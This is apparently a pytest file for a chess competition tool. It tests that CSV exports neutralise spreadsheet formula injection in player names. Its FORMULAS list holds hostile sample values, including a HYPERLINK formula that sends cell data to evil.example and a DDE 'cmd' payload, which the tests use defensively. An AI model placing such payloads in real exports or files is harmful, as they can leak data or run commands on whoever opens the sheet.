"""Injection (issue 8): names that a spreadsheet would run as formulas (CSV exports), and
names that Streamlit would render as Markdown links or images (every page)."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest
from test_store_support import make_season

from compcore import cli
from compcore.adapters import season_file
from compcore.adapters.csv_text import csv_text, neutral_cell
from compcore.model import Season
from ui import sheets

# --------------------------------------------------------------------------- CSV

#: each starts with one of OWASP's formula characters = + - @ tab CR
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tTab",
    "\rCR",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_start_gets_a_single_quote(text):
    assert neutral_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Anna de Vries", "-1", "+2", "12.5", "-0,5", "0", "", "a=b"])
def test_plain_names_and_numbers_stay_as_they_are(text):
    # "-1" and "+2" are colour balances and must stay numbers in the spreadsheet
    assert neutral_cell(text) == text


def test_csv_text_neutralises_every_cell_and_keeps_quoting():
    # a lone CR inside a cell is quoted (the csv module quotes only the "\n" line end), so
    # the row stays one row
    text = csv_text([["Naam", "Kl"], ["=1+1", -1], ['say "hi", @you', 2], ["\rCR", 0]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["Naam", "Kl"],
        ["'=1+1", "-1"],
        ['say "hi", @you', "2"],
        ["'\rCR", "0"],
    ]


def hostile_season() -> Season:
    """keizer-classic, 10 players (4 rounds played, one open), six named as formulas."""
    season = make_season()
    players = tuple(
        replace(p, name=FORMULAS[i]) if i < len(FORMULAS) else p
        for i, p in enumerate(season.players)
    )
    return replace(season, players=players)


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert (
                not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                or cell.lstrip("+-").replace(".", "").replace(",", "").isdigit()
            ), cell


def test_standings_csv_from_the_command_line_has_no_formula(tmp_path: Path, capsys):
    path = tmp_path / "s.json"
    season_file.dump(hostile_season(), path)
    assert cli.main(["standings", str(path), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    names = [row[1] for row in rows[1:]]
    assert sorted(n for n in names if n.startswith("'")) == sorted("'" + f for f in FORMULAS)
    assert_no_formula(rows)
    # the colour balance column still holds plain (signed) numbers
    kl = rows[0].index("Kl")
    assert {row[kl] for row in rows[1:]} <= {"0", "+1", "-1", "+2", "-2", "+3", "-3"}


def test_the_pairing_sheet_csv_has_no_formula():
    season = hostile_season()
    ruleset = season_file.ruleset_of(season)
    played = season.rounds[0]
    rows = list(csv.reader(io.StringIO(sheets.to_csv(season, ruleset, played, "nl"))))
    assert_no_formula(rows)
    names = {season.player(pid).name for g in played.games or () for pid in g.players}
    shown = {cell for row in rows[1:] for cell in row[1:3]}
    assert {"'" + n if n in FORMULAS else n for n in names} == shown


def test_standings_json_keeps_names_as_they_are(tmp_path: Path, capsys):
    # JSON is no spreadsheet: the names stay exactly what the season file says
    path = tmp_path / "s.json"
    season_file.dump(hostile_season(), path)
    assert cli.main(["standings", str(path), "--format", "json"]) == 0
    names = {row["name"] for row in json.loads(capsys.readouterr().out)["rows"]}
    assert set(FORMULAS) <= names
